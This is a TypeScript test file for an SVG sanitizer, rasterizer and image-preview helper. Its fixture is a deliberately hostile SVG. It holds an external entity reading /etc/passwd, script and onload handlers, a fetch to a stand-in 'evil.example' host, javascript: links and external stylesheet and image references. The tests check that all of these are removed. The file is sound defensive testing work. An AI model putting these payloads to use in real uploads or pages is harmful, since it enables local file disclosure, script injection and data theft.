import sharp from 'sharp';
import { makePreview } from './make-preview';
import { looksLikeSvg, rasterizeSvg, sanitizeSvg } from './svg-image';

const hostile = Buffer.from(
  `<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY secret SYSTEM "file:///etc/passwd"><!ENTITY lol "lollollol">]>
<?xml-stylesheet href="https://evil.example/x.css"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="120" height="60" onload="alert(1)">
  <script>fetch('https://evil.example/steal')</script>
  <style>@import url(https://evil.example/y.css); rect { fill: blue }</style>
  <defs><linearGradient id="g"><stop offset="0" stop-color="red"/></linearGradient></defs>
  <rect width="120" height="60" fill="url(#g)" onclick="steal()"/>
  <circle cx="10" cy="10" r="5" style="fill: url(https://evil.example/p.svg#x)"/>
  <image xlink:href="file:///etc/passwd" width="10" height="10"/>
  <use href="https://evil.example/sprite.svg#icon"/>
  <use href="#g"/>
  <a href="javascript:alert(1)"><text x="5" y="50">&secret;&lol;</text></a>
  <foreignObject width="50" height="50"><div xmlns="http://www.w3.org/1999/xhtml">html</div></foreignObject>
</svg>`,
);

describe('sanitizeSvg', () => {
  it('removes scripts, handlers, external references, foreignObject and entity declarations, keeping the drawing', async () => {
    const safe = await sanitizeSvg(hostile);
    const text = safe.data.toString('utf8');
    for (const forbidden of [
      '<script',
      'onload',
      'onclick',
      'evil.example',
      'file:',
      'foreignObject',
      'ENTITY',
      'DOCTYPE',
      'javascript:',
      '<image',
      'xml-stylesheet',
    ]) {
      expect(text).not.toContain(forbidden);
    }
    // The drawing and its local references survive; the unexpanded entities stay inert text.
    expect(text).toContain('<rect width="120" height="60" fill="url(#g)"/>');
    expect(text).toContain('<use href="#g"/>');
    expect(text).not.toContain('lollollol');
    expect(safe).toMatchObject({ width: 120, height: 60 });
    expect(safe.removed).toEqual(
      expect.arrayContaining([
        'a DOCTYPE (entity declarations)',
        'a <script> element',
        'a <foreignObject> element',
        'an external href',
        'an event handler attribute',
      ]),
    );
  });

  it('reports nothing removed for a clean SVG', async () => {
    const clean = Buffer.from(
      '<svg xmlns="http://www.w3.org/2000/svg" width="32" height="16"><rect width="32" height="16" fill="#0a0"/></svg>',
    );
    await expect(sanitizeSvg(clean)).resolves.toMatchObject({ width: 32, height: 16, removed: [] });
  });

  it('refuses text that is not a well-formed SVG document', async () => {
    await expect(sanitizeSvg(Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><rect></svg>'))).rejects.toMatchObject({
      code: 'invalid_image',
    });
    await expect(sanitizeSvg(Buffer.from('<html><body/></html>'))).rejects.toMatchObject({ code: 'invalid_image' });
  });

  it('refuses an SVG declaring more pixels than the limit before rendering it', async () => {
    const huge = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="20000" height="20000"/>');
    await expect(sanitizeSvg(huge, { maxPixels: 1_000_000 })).rejects.toMatchObject({ code: 'invalid_image' });
  });
});

describe('rasterizeSvg and previews', () => {
  it('renders the sanitized SVG to PNG at the asked long side', async () => {
    const png = await rasterizeSvg(hostile, { longSide: 240 });
    const metadata = await sharp(png).metadata();
    expect(metadata).toMatchObject({ format: 'png', width: 240, height: 120 });
  });

  it('tells SVG text from other bytes', () => {
    expect(looksLikeSvg(hostile)).toBe(true);
    expect(looksLikeSvg(Buffer.from('<html></html>'))).toBe(false);
    expect(looksLikeSvg(Buffer.from([0x89, 0x50, 0x4e, 0x47]))).toBe(false);
  });

  it('makes a raster preview of an SVG and a still of an animated GIF’s first frame', async () => {
    const svgPreview = await makePreview(hostile, { maxBytes: 50_000, maxDimension: 200 });
    expect(svgPreview).toMatchObject({ width: 200, height: 100 });
    const frames = Buffer.concat([Buffer.alloc(16 * 16 * 3, 200), Buffer.alloc(16 * 16 * 3, 20)]);
    const gif = await sharp(frames, { raw: { width: 16, height: 32, channels: 3, pageHeight: 16 } } as never)
      .gif({ delay: [100, 100] })
      .toBuffer();
    const gifPreview = await makePreview(gif, { maxBytes: 50_000 });
    expect(gifPreview).toMatchObject({ width: 16, height: 16 });
    const { data } = await sharp(gifPreview?.data).raw().toBuffer({ resolveWithObject: true });
    // The first frame is light grey (200); the second, dark, never shows in the still.
    expect(data[0]).toBeGreaterThan(150);
  });
});
